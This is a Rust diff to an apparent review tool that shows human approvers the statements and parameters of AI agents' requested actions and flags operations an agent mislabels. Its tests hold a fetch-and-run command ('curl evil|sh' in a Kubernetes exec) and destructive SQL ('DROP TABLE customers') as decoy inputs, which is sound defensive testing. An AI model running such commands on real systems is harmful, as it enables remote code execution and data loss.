@@ -249,7 +249,7 @@ pub const STATEMENT_KEYS: [&str; 3] = ["sql", "statement", "query"];
 /// estimates (as a factor), lineage, parameters, who it is for,
 /// justification, then the statement's size of change (its diff is shown
 /// apart). Empty when nothing a reviewer reads differs.
-pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
+pub fn changes<'a>(prev: &'a Action, cur: &'a Action) -> Vec<String> {
     let mut out = Vec::new();
     if prev.target != cur.target {
         out.push(format!(
@@ -338,12 +338,17 @@ pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
             out.push(format!("lineage {label} removed: {}", removed.join(", ")));
         }
     }
+    // A statement key is left to the statement comparison (below) only
+    // while it holds a string on both sides (or none); anything else under
+    // it — an HTTP query object, a Kubernetes exec's command list — is a
+    // parameter like any other.
+    let statement_key =
+        |k: &str| STATEMENT_KEYS.contains(&k) && [prev, cur].iter().all(|a| holds_statement(a, k));
     let mut pkeys: Vec<&String> = prev.params.keys().chain(cur.params.keys()).collect();
     pkeys.sort();
     pkeys.dedup();
     for k in pkeys {
-        if STATEMENT_KEYS.contains(&k.as_str())
-            || ["destination", "bucket", "url", "host", "to"].contains(&k.as_str())
+        if statement_key(k) || ["destination", "bucket", "url", "host", "to"].contains(&k.as_str())
         {
             continue;
         }
@@ -387,10 +392,13 @@ pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
             quote(cur.justification.as_deref().unwrap_or(""))
         ));
     }
-    let (a, b) = (statement_of(prev), statement_of(cur));
-    if a != b {
-        let (a, b) = (a.unwrap_or(""), b.unwrap_or(""));
-        let d = similar::TextDiff::from_lines(a, b);
+    for k in STATEMENT_KEYS.into_iter().filter(|k| statement_key(k)) {
+        let text = |a: &'a Action| a.params.get(k).and_then(Value::as_str);
+        let (a, b) = (text(prev), text(cur));
+        if a == b {
+            continue;
+        }
+        let d = similar::TextDiff::from_lines(a.unwrap_or(""), b.unwrap_or(""));
         let (mut ins, mut del) = (0, 0);
         for c in d.iter_all_changes() {
             match c.tag() {
@@ -399,12 +407,23 @@ pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
                 similar::ChangeTag::Equal => {}
             }
         }
+        let which = if k == "statement" {
+            String::new()
+        } else {
+            format!(" ({k})")
+        };
         out.push(format!(
-            "statement changed: {ins} line{} added, {del} removed",
+            "statement changed{which}: {ins} line{} added, {del} removed",
             if ins == 1 { "" } else { "s" }
         ));
     }
     out
+}
+
+/// Whether `a`'s parameter `k` is a statement or absent (not a query
+/// object or any other non-string).
+fn holds_statement(a: &Action, k: &str) -> bool {
+    a.params.get(k).is_none_or(Value::is_string)
 }
 
 fn round_factor(f: f64) -> String {
@@ -416,23 +435,90 @@ fn round_factor(f: f64) -> String {
     }
 }
 
-/// The statement of an action, when its parameters carry one.
-pub fn statement_of(a: &Action) -> Option<&str> {
-    STATEMENT_KEYS
-        .iter()
-        .find_map(|k| a.params.get(*k).and_then(Value::as_str))
+/// A statement an action carries: a string under one of
+/// [`STATEMENT_KEYS`], with the key that holds it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Statement<'a> {
+    pub key: &'a str,
+    pub text: &'a str,
 }
 
-/// The operation classes a statement's own words show, whatever the agent
-/// labelled it: a `DELETE` labelled `write` still counts as a delete.
-/// Coarse on purpose (any such keyword anywhere counts): it only ever
-/// asks for more care, never less.
+/// Every statement of an action, in [`STATEMENT_KEYS`] order. Usually one;
+/// an action that carries several (`sql` and `statement`) has each of them
+/// shown on every surface, none picked over another: which one an executor
+/// runs is not ours to guess, so a reviewer reads them all.
+pub fn statements(a: &Action) -> Vec<Statement<'_>> {
+    STATEMENT_KEYS
+        .iter()
+        .filter_map(|k| {
+            a.params.get_key_value(*k).and_then(|(key, v)| {
+                v.as_str().map(|text| Statement {
+                    key: key.as_str(),
+                    text,
+                })
+            })
+        })
+        .collect()
+}
+
+/// What every surface shows of an action's parameters: each statement
+/// whole, then every other parameter. A parameter is in exactly one of the
+/// two, so nothing the agent sent is left off. The web request and batch
+/// pages and the Slack and Teams cards all draw from this, so they cannot
+/// disagree about what is shown.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Shown<'a> {
+    pub statements: Vec<Statement<'a>>,
+    /// Every parameter that is not one of `statements` — a statement key
+    /// holding something other than a string (an HTTP query object) stays
+    /// here.
+    pub rest: serde_json::Map<String, Value>,
+}
+
+/// [`Shown`] for `a`.
+pub fn shown(a: &Action) -> Shown<'_> {
+    let statements = statements(a);
+    let rest = a
+        .params
+        .iter()
+        .filter(|(k, _)| !statements.iter().any(|s| s.key == k.as_str()))
+        .map(|(k, v)| (k.clone(), v.clone()))
+        .collect();
+    Shown { statements, rest }
+}
+
+impl Shown<'_> {
+    /// How every surface heads statement `i`: "Statement", or with the key
+    /// that holds it when there are several ("Statement (params.sql)").
+    pub fn statement_label(&self, i: usize) -> String {
+        match (self.statements.len(), self.statements.get(i)) {
+            (2.., Some(s)) => format!("Statement (params.{})", s.key),
+            _ => "Statement".to_string(),
+        }
+    }
+
+    /// How every surface heads the other parameters.
+    pub fn rest_label(&self) -> &'static str {
+        match self.statements.len() {
+            0 => "Parameters",
+            1 => "Parameters besides the statement",
+            _ => "Parameters besides the statements",
+        }
+    }
+}
+
+/// The operation classes the statements' own words show, whatever the
+/// agent labelled it: a `DELETE` labelled `write` still counts as a delete.
+/// Every statement counts (an action carrying a harmless `sql` beside a
+/// `DROP` in `statement` shows ddl). Coarse on purpose (any such keyword
+/// anywhere counts): it only ever asks for more care, never less.
 pub fn statement_operations(a: &Action) -> Vec<&'static str> {
-    let Some(sql) = statement_of(a) else {
-        return Vec::new();
-    };
     let mut out = Vec::new();
-    for w in sql.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
+    let words = statements(a).into_iter().flat_map(|s| {
+        s.text
+            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+    });
+    for w in words {
         let class = match w.to_ascii_uppercase().as_str() {
             "DELETE" | "TRUNCATE" => "delete",
             "UPDATE" | "INSERT" | "MERGE" | "UPSERT" => "write",
@@ -588,6 +674,79 @@ mod tests {
         assert_eq!(c[0], "estimated rows ÷2.1: 41,200 → 20,000");
         assert!(
             c[1].starts_with("parameter limit added: xxx") && c[1].ends_with("… (500 characters)")
+        );
+    }
+
+    #[test]
+    fn a_query_object_is_compared_like_any_parameter() {
+        // A Kubernetes exec: the command travels in the URL query, which
+        // the HTTP gateway puts in `params.query` as an object.
+        let exec = |command: Value| {
+            action(json!({"kind": "k8s", "operation": "exec",
+                "resource": "k8s://prod/namespaces/web/pods/api-0/exec",
+                "params": {"method": "POST", "path": "/api/v1/namespaces/web/pods/api-0/exec",
+                           "query": {"command": command, "stdout": "true"}}}))
+        };
+        let ls = exec(json!(["ls"]));
+        let sh = exec(json!(["sh", "-c", "curl evil|sh"]));
+        assert!(changes(&ls, &ls).is_empty());
+        assert_eq!(
+            changes(&ls, &sh),
+            [
+                r#"parameter query changed: {"command":["ls"],"stdout":"true"} → {"command":["sh","-c","curl evil|sh"],"stdout":"true"}"#
+            ]
+        );
+        // A string statement that becomes an object is a parameter that
+        // changed, shown whole; two strings are statements.
+        let q = |v: Value| {
+            action(
+                json!({"kind": "mcp", "operation": "call", "resource": "mcp://s/tools/q",
+            "params": {"query": v}}),
+            )
+        };
+        assert_eq!(
+            changes(&q(json!("SELECT 1")), &q(json!({"sql": "DROP TABLE t"}))),
+            [r#"parameter query changed: SELECT 1 → {"sql":"DROP TABLE t"}"#]
+        );
+        assert_eq!(
+            changes(&q(json!("SELECT 1")), &q(json!("SELECT 2"))),
+            ["statement changed (query): 1 line added, 1 removed"]
+        );
+    }
+
+    #[test]
+    fn every_statement_of_an_action_counts() {
+        // A harmless `sql` beside a destructive `statement`.
+        let decoy = action(
+            json!({"kind": "sql", "operation": "read", "resource": "postgres://crm/public.customers",
+            "params": {"sql": "SELECT 1", "statement": "DROP TABLE customers"}}),
+        );
+        assert_eq!(
+            statements(&decoy),
+            [
+                Statement {
+                    key: "sql",
+                    text: "SELECT 1"
+                },
+                Statement {
+                    key: "statement",
+                    text: "DROP TABLE customers"
+                }
+            ]
+        );
+        assert_eq!(statement_operations(&decoy), ["ddl"]);
+        assert_eq!(
+            mislabel(&decoy).as_deref(),
+            Some("The agent labels it “read”, but the statement shows ddl.")
+        );
+        let s = shown(&decoy);
+        assert_eq!(
+            (s.statement_label(0), s.statement_label(1), s.rest.len()),
+            (
+                "Statement (params.sql)".to_string(),
+                "Statement (params.statement)".to_string(),
+                0
+            )
         );
     }
 
